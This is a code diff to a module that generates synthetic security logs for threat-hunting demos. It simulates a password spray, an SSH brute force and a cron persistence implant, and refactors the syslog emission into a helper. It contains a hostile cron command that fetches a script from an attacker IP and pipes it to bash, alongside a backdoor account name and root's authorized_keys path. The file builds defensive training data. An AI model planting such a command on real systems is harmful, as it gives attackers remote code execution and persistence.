@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Iterable
 from datetime import datetime, timedelta
 
 import numpy as np
@@ -11,7 +12,7 @@ from huntbook.data.lake._demo_arrow import stable_uuid
 from huntbook.data.lake._demo_cloud import BAD_PASSWORD, location_details, status, user_id
 from huntbook.data.lake._demo_context import from_us, to_us
 from huntbook.data.lake._demo_emit import Emitter
-from huntbook.data.lake._demo_linux import LINUX_USERS
+from huntbook.data.lake._demo_linux import CRON_CLOSED, CRON_OPENED, LINUX_USERS, SUDO_CLOSED
 from huntbook.data.lake._demo_truth import (
     Alert,
     Host,
@@ -41,7 +42,8 @@ SSH_HOST = "lnx-bastion01"
 SSH_VICTIM = "deploy"
 BACKDOOR_USER = "sysbackup"
 CRON_URL = f"http://{SSH_IP}/k.sh"
-CRON_ENTRY = f"*/15 * * * * /usr/bin/curl -fsSL {CRON_URL} | /bin/bash >/dev/null 2>&1"
+CRON_COMMAND = f"/usr/bin/curl -fsSL {CRON_URL} | /bin/bash >/dev/null 2>&1"
+CRON_ENTRY = f"*/15 * * * * {CRON_COMMAND}"
 AUTHORIZED_KEYS = "/root/.ssh/authorized_keys"
 _GUESSES = (
     ("root", 40),
@@ -146,7 +148,6 @@ def plant_spray(em: Emitter, day: int) -> tuple[PasswordSpray, list[Alert], list
         scenario=SPRAY,
         severity="Medium",
         provider="IPC",
-        product="Azure Active Directory Identity Protection",
         compromised=victim.upn,
         tactics=("CredentialAccess",),
         techniques=("T1110.003",),
@@ -225,59 +226,25 @@ def plant_ssh(em: Emitter, day: int) -> tuple[SshBruteForce, list[Alert], list[I
             )
             if last_try:
                 break
+            account = user
             if user not in _VALID:
                 em.syslog(t, h, "auth", "info", "sshd", pid, f"Invalid user {user} from {SSH_IP} port {port}")
-                em.syslog(
-                    t + timedelta(seconds=2.1),
-                    h,
-                    "auth",
-                    "info",
-                    "sshd",
-                    pid,
-                    f"Failed password for invalid user {user} from {SSH_IP} port {port} ssh2",
-                )
+                account = f"invalid user {user}"
                 invalid += 1
-            else:
-                em.syslog(
-                    t + timedelta(seconds=2.1),
-                    h,
-                    "auth",
-                    "info",
-                    "sshd",
-                    pid,
-                    f"Failed password for {user} from {SSH_IP} port {port} ssh2",
-                )
+            failed = f"Failed password for {account} from {SSH_IP} port {port} ssh2"
+            em.syslog(t + timedelta(seconds=2.1), h, "auth", "info", "sshd", pid, failed)
             failures += 1
             t += timedelta(seconds=float(rng.uniform(8, 14)))
     success, pid = t, 318_774
-    em.syslog(
-        t,
-        h,
-        "auth",
-        "info",
-        "sshd",
-        pid,
-        f"Accepted password for {SSH_VICTIM} from {SSH_IP} port {port} ssh2",
-    )
     uid = LINUX_USERS[SSH_VICTIM]
-    em.syslog(
-        t + timedelta(seconds=0.05),
-        h,
-        "authpriv",
-        "info",
-        "sshd",
-        pid,
-        f"pam_unix(sshd:session): session opened for user {SSH_VICTIM}(uid={uid}) by (uid=0)",
+    accepted = f"Accepted password for {SSH_VICTIM} from {SSH_IP} port {port} ssh2"
+    opened = f"pam_unix(sshd:session): session opened for user {SSH_VICTIM}(uid={uid}) by (uid=0)"
+    login = (
+        (0, "auth", "info", "sshd", pid, accepted),
+        (0.05, "authpriv", "info", "sshd", pid, opened),
+        (0.2, "auth", "info", "systemd-logind", 812, f"New session 9102 of user {SSH_VICTIM}."),
     )
-    em.syslog(
-        t + timedelta(seconds=0.2),
-        h,
-        "auth",
-        "info",
-        "systemd-logind",
-        812,
-        f"New session 9102 of user {SSH_VICTIM}.",
-    )
+    _syslog(em, h, t, login)
     brute_stage = Stage(
         "ssh_brute_force",
         "CredentialAccess",
@@ -331,58 +298,22 @@ def plant_ssh(em: Emitter, day: int) -> tuple[SshBruteForce, list[Alert], list[I
     commands = []
     for i, (command, tool, lines) in enumerate(steps):
         sudo_pid = 319_020 + 40 * i
-        em.syslog(
-            t,
-            h,
-            "authpriv",
-            "notice",
-            "sudo",
-            sudo_pid,
-            f"{SSH_VICTIM} : TTY=pts/0 ; PWD=/home/{SSH_VICTIM} ; USER=root ; COMMAND={command}",
+        sudo = f"{SSH_VICTIM} : TTY=pts/0 ; PWD=/home/{SSH_VICTIM} ; USER=root ; COMMAND={command}"
+        opened = f"pam_unix(sudo:session): session opened for user root(uid=0) by {SSH_VICTIM}(uid={uid})"
+        session = (
+            (0, "authpriv", "notice", "sudo", sudo_pid, sudo),
+            (0.01, "authpriv", "info", "sudo", sudo_pid, opened),
+            *((0.1 + 0.01 * j, f, level, tool, sudo_pid + 1, m) for j, (f, level, m) in enumerate(lines)),
+            (3 + 20 * (tool == "crontab"), "authpriv", "info", "sudo", sudo_pid, SUDO_CLOSED),
         )
-        em.syslog(
-            t + timedelta(seconds=0.01),
-            h,
-            "authpriv",
-            "info",
-            "sudo",
-            sudo_pid,
-            f"pam_unix(sudo:session): session opened for user root(uid=0) by {SSH_VICTIM}(uid={uid})",
-        )
-        for j, (facility, severity, message) in enumerate(lines):
-            em.syslog(
-                t + timedelta(seconds=0.1 + 0.01 * j), h, facility, severity, tool, sudo_pid + 1, message
-            )
-        em.syslog(
-            t + timedelta(seconds=3 + 20 * (tool == "crontab")),
-            h,
-            "authpriv",
-            "info",
-            "sudo",
-            sudo_pid,
-            "pam_unix(sudo:session): session closed for user root",
-        )
+        _syslog(em, h, t, session)
         commands.append(command)
         t += timedelta(seconds=float(rng.uniform(40, 95)))
     logout = t + timedelta(minutes=1, seconds=7)
-    em.syslog(
-        logout,
-        h,
-        "auth",
-        "info",
-        "sshd",
-        pid,
-        f"Received disconnect from {SSH_IP} port {port}:11: disconnected by user",
-    )
-    em.syslog(
-        logout + timedelta(seconds=0.01),
-        h,
-        "authpriv",
-        "info",
-        "sshd",
-        pid,
-        f"pam_unix(sshd:session): session closed for user {SSH_VICTIM}",
-    )
+    disconnect = f"Received disconnect from {SSH_IP} port {port}:11: disconnected by user"
+    closed = f"pam_unix(sshd:session): session closed for user {SSH_VICTIM}"
+    em.syslog(logout, h, "auth", "info", "sshd", pid, disconnect)
+    em.syslog(logout + timedelta(seconds=0.01), h, "authpriv", "info", "sshd", pid, closed)
     persistence_end = logout
     cron_runs = _cron_implant(em, h, t)
     alert = em.alert(
@@ -391,7 +322,6 @@ def plant_ssh(em: Emitter, day: int) -> tuple[SshBruteForce, list[Alert], list[I
         scenario=SSH,
         severity="High",
         provider="Azure Security Center",
-        product="Azure Security Center",
         compromised=h.name,
         tactics=("CredentialAccess",),
         techniques=("T1110.001",),
@@ -449,24 +379,12 @@ def _cron_implant(em: Emitter, h: Host, after: datetime) -> int:
     for i, us in enumerate(runs):
         t = from_us(int(us) + int(rng.integers(5_000, 400_000)))
         pid = 400_000 + 13 * i
-        em.syslog(
-            t,
-            h,
-            "authpriv",
-            "info",
-            "CRON",
-            pid,
-            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
+        cron = (
+            (0, "authpriv", "info", "CRON", pid, CRON_OPENED),
+            (0.001, "cron", "info", "CRON", pid, f"(root) CMD ({CRON_COMMAND})"),
+            (2, "authpriv", "info", "CRON", pid, CRON_CLOSED),
         )
-        em.syslog(
-            t + timedelta(milliseconds=1),
-            h,
-            "cron",
-            "info",
-            "CRON",
-            pid,
-            f"(root) CMD (/usr/bin/curl -fsSL {CRON_URL} | /bin/bash >/dev/null 2>&1)",
-        )
+        _syslog(em, h, t, cron)
         em.firewall(
             t + timedelta(seconds=1),
             h.ip,
@@ -478,13 +396,12 @@ def _cron_implant(em: Emitter, h: Host, after: datetime) -> int:
             url=CRON_URL,
             app="web-browsing",
         )
-        em.syslog(
-            t + timedelta(seconds=2),
-            h,
-            "authpriv",
-            "info",
-            "CRON",
-            pid,
-            "pam_unix(cron:session): session closed for user root",
-        )
     return len(runs)
+
+
+def _syslog(
+    em: Emitter, h: Host, t: datetime, lines: Iterable[tuple[float, str, str, str, int, str]]
+) -> None:
+    """Write syslog *lines* of *h*: ``(seconds after t, facility, severity, process, pid, message)``."""
+    for after, facility, severity, process, pid, message in lines:
+        em.syslog(t + timedelta(seconds=after), h, facility, severity, process, pid, message)
